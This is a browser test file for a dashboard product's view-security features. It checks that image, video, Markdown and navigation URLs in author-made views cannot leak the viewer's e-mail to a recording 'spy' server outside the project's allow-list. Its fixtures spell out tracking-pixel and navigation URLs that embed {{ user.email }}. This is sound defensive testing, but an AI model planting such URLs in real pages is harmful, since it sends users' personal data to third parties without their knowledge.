/**
 * Issue 25 items 4 and 5 in real Chromium (decision 0155): a view author puts the viewer's e-mail
 * into image, video and Markdown image URLs on another local port (a real HTTP server started here)
 * and into navigation targets. Nothing reaches that server while the viewer only looks; a
 * navigation there shows the full address first, and Cancel (the default) keeps the viewer in
 * place. The host on the project's allow-list loads, and a navigation there opens without asking.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loginToken } from '../support/runtime.ts';
import { axeFindings } from './support/axe.ts';
import { type ConsoleUnderTest, login, startConsole } from './support/browser.ts';

const base = '/p/demo/e/development';
const viewer = 'admin@dogu.local';
let console_: ConsoleUnderTest;
let page: Page;
let token: string;

/** An HTTP server that records every request's path and answers a 1×1 PNG (or a page). */
function recordingServer() {
  const seen: string[] = [];
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==',
    'base64',
  );
  const server: Server = createServer((request, response) => {
    seen.push(request.url ?? '');
    if (request.url?.includes('.png')) {
      response.writeHead(200, { 'content-type': 'image/png', 'access-control-allow-origin': '*' });
      response.end(png);
    } else {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end('<!doctype html><title>outside</title><p>outside');
    }
  });
  return {
    seen,
    server,
    start: () =>
      new Promise<string>((resolve) =>
        server.listen(0, '127.0.0.1', () => resolve(`127.0.0.1:${(server.address() as AddressInfo).port}`)),
      ),
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

const spy = recordingServer();
const allowed = recordingServer();
let spyHost: string;
let allowedHost: string;

async function call(method: string, path: string, body?: unknown) {
  const response = await fetch(`${console_.url}${path}`, {
    method,
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const text = await response.text();
  return { status: response.status, body: text ? JSON.parse(text) : undefined };
}

beforeAll(async () => {
  [spyHost, allowedHost] = await Promise.all([spy.start(), allowed.start()]);
  console_ = await startConsole();
  token = await loginToken(console_.runtime);
  const settings = await call('PUT', '/api/v1/projects/demo/settings', { allowedHosts: [allowedHost] });
  expect(settings.status, JSON.stringify(settings.body)).toBe(200);
  const visual = await call('PUT', '/api/v1/projects/demo/views/spy-visual', {
    id: 'spy-visual',
    name: 'Spy (visual)',
    definition: {
      kind: 'visual',
      parameters: [],
      queries: [],
      layout: {
        id: 'root',
        type: 'grid',
        columns: 1,
        children: [
          {
            id: 'md',
            type: 'markdown',
            content: `Hello ![pixel](http://${spyHost}/md.png?e={{ user.email }}) and ![ok](http://${allowedHost}/md-ok.png)`,
          },
          { id: 'img', type: 'media', url: `http://${spyHost}/img.png?e={{ user.email }}`, kind: 'image' },
          { id: 'vid', type: 'media', url: `http://${spyHost}/clip.mp4?e={{ user.email }}`, kind: 'video' },
          { id: 'aud', type: 'media', url: `http://${spyHost}/sound.mp3?e={{ user.email }}`, kind: 'audio' },
          { id: 'good', type: 'media', url: `'http://${allowedHost}/ok.png'`, kind: 'image' },
          {
            id: 'leave',
            type: 'button',
            label: 'Leave',
            events: [{ type: 'navigate', to: { url: `http://${spyHost}/go?e={{ user.email }}` } }],
          },
          {
            id: 'stay_inside',
            type: 'button',
            label: 'Allowed page',
            events: [{ type: 'navigate', to: { url: `'http://${allowedHost}/page'` } }],
          },
        ],
      },
    },
  });
  expect(visual.status, JSON.stringify(visual.body)).toBeLessThan(300);
  const code = await call('PUT', '/api/v1/projects/demo/views/spy-code', {
    id: 'spy-code',
    name: 'Spy (code)',
    definition: {
      kind: 'code',
      parameters: [],
      actionIds: [],
      source: [
        "import { Button, Stack, navigate, user } from 'dogu';",
        'export default function Spy() {',
        '  return (',
        '    <Stack>',
        `      <Button onClick={() => navigate({ url: 'http://${spyHost}/code-go?e=' + encodeURIComponent(user.email) })}>Leave</Button>`,
        `      <Button onClick={() => navigate({ url: 'http://${allowedHost}/code-page' })}>Allowed</Button>`,
        '    </Stack>',
        '  );',
        '}',
      ].join('\n'),
    },
  });
  expect(code.status, JSON.stringify(code.body)).toBeLessThan(300);
  page = await console_.newPage();
  page.setDefaultTimeout(10_000);
  await login(page, viewer, `${base}/views`);
}, 180_000);

afterAll(async () => {
  await console_?.close();
  await Promise.all([spy.close(), allowed.close()]);
});

const dialog = () => page.getByRole('dialog');

describe('a visual view of a project with an allow-list', () => {
  it('loads the allowed host and nothing from the other one; the placeholders name that host', async () => {
    await page.goto(`${base}/views/spy-visual`);
    await page.getByRole('button', { name: 'Leave' }).waitFor();
    // The allowed host's images load (so the page did render and fetch)...
    await expect
      .poll(() => allowed.seen.filter((path) => path.endsWith('.png')).sort())
      .toEqual(['/md-ok.png', '/ok.png']);
    await page.waitForLoadState('networkidle');
    // ...and the spy heard nothing: no image, no video, no audio, no Markdown image.
    expect(spy.seen).toEqual([]);
    const notes = page.locator('.view-blocked-media');
    expect(await notes.count()).toBe(4);
    for (const text of await notes.allInnerTexts()) expect(text).toContain(spyHost);
    expect(
      await page
        .locator(`img[src*="${spyHost}"], video[src*="${spyHost}"], audio[src*="${spyHost}"]`)
        .count(),
    ).toBe(0);
  });

  it('a navigation to another host shows the full address; Cancel (focused) keeps the viewer here', async () => {
    const before = page.url();
    const pages = page.context().pages().length;
    await page.getByRole('button', { name: 'Leave' }).click();
    await dialog().waitFor();
    const expected = `http://${spyHost}/go?e=${viewer}`;
    expect(await dialog().getByTestId('leave-url').innerText()).toBe(expected);
    expect(await dialog().getByRole('heading').innerText()).toContain(spyHost);
    // Cancel has the focus: Enter right away keeps the viewer in place.
    expect(await page.evaluate('document.activeElement?.textContent')).toBe('Cancel');
    await page.keyboard.press('Enter');
    await dialog().waitFor({ state: 'detached' });
    expect(page.url()).toBe(before);
    expect(page.context().pages().length).toBe(pages);
    expect(spy.seen).toEqual([]);
    // Escape cancels as well.
    await page.getByRole('button', { name: 'Leave' }).click();
    await dialog().waitFor();
    await page.keyboard.press('Escape');
    await dialog().waitFor({ state: 'detached' });
    expect(spy.seen).toEqual([]);
  });

  it('Open after reading the address does open it; an allowed host opens without asking', async () => {
    await page.getByRole('button', { name: 'Leave' }).click();
    await dialog().waitFor();
    const opened = page.context().waitForEvent('page');
    await dialog().getByRole('button', { name: 'Open' }).click();
    const tab = await opened;
    await tab.waitForLoadState();
    expect(tab.url()).toBe(`http://${spyHost}/go?e=${viewer}`);
    await tab.close();
    const allowedTab = page.context().waitForEvent('page');
    await page.getByRole('button', { name: 'Allowed page' }).click();
    const second = await allowedTab;
    await second.waitForLoadState();
    expect(second.url()).toBe(`http://${allowedHost}/page`);
    expect(await dialog().count()).toBe(0);
    await second.close();
  });
});

describe('a code view', () => {
  it('navigate({url}) to another host asks with the full address; Cancel keeps the viewer; the allowed host opens', async () => {
    spy.seen.length = 0;
    await page.goto(`${base}/views/spy-code`);
    const handle = await page.waitForSelector('iframe.code-view-frame');
    const frame = (await handle.contentFrame())!;
    await frame.getByRole('button', { name: 'Leave' }).click();
    await dialog().waitFor();
    expect(await dialog().getByTestId('leave-url').innerText()).toBe(
      `http://${spyHost}/code-go?e=${encodeURIComponent(viewer)}`,
    );
    const before = page.url();
    await dialog().getByRole('button', { name: 'Cancel' }).click();
    await dialog().waitFor({ state: 'detached' });
    expect(page.url()).toBe(before);
    expect(spy.seen).toEqual([]);
    const opened = page.context().waitForEvent('page');
    await frame.getByRole('button', { name: 'Allowed' }).click();
    const tab = await opened;
    await tab.waitForLoadState();
    expect(tab.url()).toBe(`http://${allowedHost}/code-page`);
    expect(await dialog().count()).toBe(0);
    await tab.close();
  });

  it('in Japanese the dialog says so in Japanese', async () => {
    const ja = await console_.newPage({ locale: 'ja-JP' });
    ja.setDefaultTimeout(10_000);
    await login(ja, viewer, `${base}/views/spy-visual`);
    await ja.getByRole('button', { name: 'Leave' }).click();
    await ja.getByRole('dialog').waitFor();
    expect(await ja.getByRole('dialog').getByRole('heading').innerText()).toContain('ページを開きますか');
    expect(await ja.getByRole('dialog').getByRole('button', { name: 'キャンセル' }).count()).toBe(1);
    await ja.keyboard.press('Escape');
    expect(spy.seen).toEqual([]);
  });
});

describe('the allowed hosts setting in the console', () => {
  it('shows the list, names a bad line, saves a good one, and has no accessibility findings', async () => {
    await page.goto(`${base}/settings/allowed-hosts`);
    const box = page.getByLabel('Hosts (one per line)');
    await expect.poll(() => box.inputValue()).toBe(allowedHost);
    await box.fill(`${allowedHost}\nhttps://bad.example/x\n`);
    await page.getByRole('button', { name: 'Save hosts' }).click();
    await page.getByText("'https://bad.example/x' is not a host").waitFor();
    expect(await box.getAttribute('aria-invalid')).toBe('true');
    expect((await call('GET', '/api/v1/projects/demo')).body.allowedHosts).toEqual([allowedHost]);
    expect(await axeFindings(page)).toEqual([]);
    await box.fill(`${allowedHost}\n*.Example.com\n`);
    await page.getByRole('button', { name: 'Save hosts' }).click();
    await expect.poll(() => box.inputValue()).toBe(`${allowedHost}\n*.example.com`);
    expect((await call('GET', '/api/v1/projects/demo')).body.allowedHosts).toEqual([
      allowedHost,
      '*.example.com',
    ]);
  });

  it('someone without manage_project (the demo reviewer, an operations lead) sees the list read-only, with the reason', async () => {
    const reviewerPage = await console_.newPage();
    reviewerPage.setDefaultTimeout(10_000);
    await login(reviewerPage, 'reviewer@dogu.local', `${base}/settings/allowed-hosts`);
    await reviewerPage.getByText("lack the right 'manage_project'").waitFor();
    const box = reviewerPage.getByLabel('Hosts (one per line)');
    await expect.poll(() => box.inputValue()).toContain(allowedHost);
    expect(await box.getAttribute('readonly')).not.toBeNull();
    expect(await reviewerPage.getByRole('button', { name: 'Save hosts' }).count()).toBe(0);
    await reviewerPage.close();
  });

  it("the builder's preview follows the list as stored now", async () => {
    allowed.seen.length = 0;
    await page.goto(`${base}/views/spy-visual/edit`);
    const preview = page.locator('.builder-preview');
    await preview.getByRole('button', { name: 'Leave' }).waitFor();
    await expect.poll(() => preview.locator('.view-blocked-media').count()).toBe(4);
    await expect.poll(() => allowed.seen.filter((path) => path.endsWith('.png')).length).toBeGreaterThan(0);
    expect(spy.seen).toEqual([]);
  });

  it('the leave dialog has no accessibility findings', async () => {
    await page.goto(`${base}/views/spy-visual`);
    await page.getByRole('button', { name: 'Leave' }).click();
    await dialog().waitFor();
    expect(await axeFindings(page)).toEqual([]);
    await page.keyboard.press('Escape');
  });
});
